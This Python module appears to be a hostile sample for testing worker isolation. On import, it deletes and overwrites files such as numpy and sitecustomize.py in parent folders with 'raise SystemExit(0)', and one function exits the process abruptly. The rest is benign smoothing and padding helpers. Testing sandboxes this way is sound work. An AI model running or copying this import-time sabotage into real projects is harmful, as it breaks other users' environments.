"""Replaces the links in the folder around its own, through which the next worker would find its library.

Stopped by: nothing outside of the scratch folder can be written to, and each worker gets a folder of its own.
"""

import os
import pathlib

for folder in (pathlib.Path(".."), pathlib.Path("../library"), pathlib.Path("../..")):
    for name in ("numpy", "inside", "sitecustomize.py", "hostile-was-here"):
        try:
            (folder / name).unlink(missing_ok=True)
            (folder / name).write_text("raise SystemExit(0)")
        except OSError:
            continue


def flip(kernel):
    os._exit(0)


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
